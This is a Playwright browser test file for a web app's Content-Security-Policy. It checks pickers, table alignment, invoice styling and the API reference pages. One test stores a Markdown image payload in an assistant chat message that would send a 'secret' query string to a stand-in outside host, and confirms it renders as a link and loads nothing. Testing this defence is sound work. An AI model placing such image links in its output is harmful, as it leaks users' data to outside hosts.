"""The pages under their Content-Security-Policy, in a real browser: what used an inline
handler or a style attribute still works (the organisation and queue pickers, a Markdown
table's alignment), a Markdown image is a link that loads nothing, an invoice keeps its own
style sheet, and the API reference pages run. Any refusal the browser logs fails the test
(``policy_breaches`` in conftest)."""

from __future__ import annotations

import re
from datetime import UTC, datetime

from playwright.sync_api import Page, Request, expect
from sqlalchemy import select

from levante import billing, platform
from levante.audit import Actor
from levante.settings import BillingSettings
from levante.storage import Database, new_id
from levante.storage.models import ChatMessage, Membership, Organization, Role, User
from levante.vocabulary import MessageRole
from tests.browser.conftest import send, sign_up
from tests.browser.test_chat_journeys import ANSWER_SECONDS


def _user(database: Database, email: str) -> User:
    with database.session() as session:
        return session.scalars(select(User).where(User.email == email)).one()


def _join(database: Database, email: str, name: str, role: Role, *, operator: bool) -> str:
    """Make ``email`` a member of a new organisation; its slug."""
    slug = name.lower()
    with database.session() as session:
        org = Organization(id=new_id("org"), name=name, slug=slug, is_operator=operator)
        session.add(org)
        session.flush()
        session.add(Membership(user_id=_user(database, email).id, organization_id=org.id,
                               role=role))  # fmt: skip
    return slug


def test_markdown_images_are_links_and_tables_keep_their_alignment(
    page: Page, site_url: str, site_database: Database
) -> None:
    sign_up(page, site_url, "mira@example.com")
    send(page, "Hello")
    answer = page.locator("article.assistant").last
    expect(answer).to_have_class(re.compile(r"\bcomplete\b"), timeout=ANSWER_SECONDS)
    with site_database.session() as session:
        kept = session.scalars(
            select(ChatMessage).where(ChatMessage.role == MessageRole.ASSISTANT)
        ).all()[-1]
        kept.content = (
            "| item | price |\n|:--|--:|\n| tea | 2.50 |\n\n"
            "![the secret](http://127.0.0.2:9/leak.png?q=secret)"
        )
    far: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith(site_url):
            far.append(request.url)

    page.on("request", note)
    page.reload()
    cell = page.locator("article.assistant td.align-right")
    expect(cell).to_have_text("2.50")
    expect(cell).to_have_css("text-align", "right")
    link = page.get_by_role("link", name="the secret")
    expect(link).to_have_attribute("href", "http://127.0.0.2:9/leak.png?q=secret")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    assert page.locator("article img").count() == 0
    assert far == []


def test_the_pickers_send_their_form_without_an_inline_handler(
    page: Page, site_url: str, site_database: Database
) -> None:
    sign_up(page, site_url, "omar@example.com")
    other = _join(site_database, "omar@example.com", "Second", Role.OWNER, operator=False)
    page.goto(f"{site_url}/console/keys")
    page.get_by_label("Organisation").select_option(other)
    expect(page).to_have_url(re.compile(rf"/console/keys\?org={other}$"))
    _join(site_database, "omar@example.com", "Desk", Role.SUPPORT, operator=True)
    page.goto(f"{site_url}/support/queue")
    page.get_by_label("Showing").select_option("none")
    expect(page).to_have_url(re.compile(r"/support/queue\?assignee=none$"))


def test_an_invoice_keeps_its_look(page: Page, site_url: str, site_database: Database) -> None:
    sign_up(page, site_url, "ines@example.com")
    org = _join(site_database, "ines@example.com", "Inesco", Role.OWNER, operator=False)
    with site_database.session() as session:
        found = session.scalars(select(Organization).where(Organization.slug == org)).one()
        org_id = found.id
        billing.subscribe(session, org_id, "support-standard",
                          now=datetime(2026, 11, 2, tzinfo=UTC), default_currency="USD",
                          actor=Actor.command_line())  # fmt: skip
    run = platform.run_invoices(
        site_database, Actor.command_line(), "2026-11", organization=org_id, finalize=False,
        settings=BillingSettings(), default_currency="USD", settle_seconds=0,
        now=datetime(2026, 11, 20, tzinfo=UTC),
    )  # fmt: skip
    page.goto(f"{site_url}/console/invoices/{run.results[0].invoice.id}.html?org={org}")
    expect(page.locator("table")).to_have_css("border-collapse", "collapse")


def test_the_api_reference_pages_run(page: Page, site_url: str, policy_breaches: list[str]) -> None:
    page.goto(f"{site_url}/docs")
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("Levante")
    expect(page.locator(".opblock").first).to_be_visible()
    page.goto(f"{site_url}/redoc")
    expect(page.locator("h1").first).to_contain_text("Levante")
    expect(page.get_by_role("textbox", name="Search")).to_be_visible()
    # ReDoc's sidebar asks cdn.redoc.ly for its maker's logo: the one refusal expected, the
    # policy keeping the reference page from reaching another host.
    refused_logo = [b for b in policy_breaches if "https://cdn.redoc.ly/" in b]
    assert len(refused_logo) == 1, policy_breaches
    policy_breaches.remove(refused_logo[0])
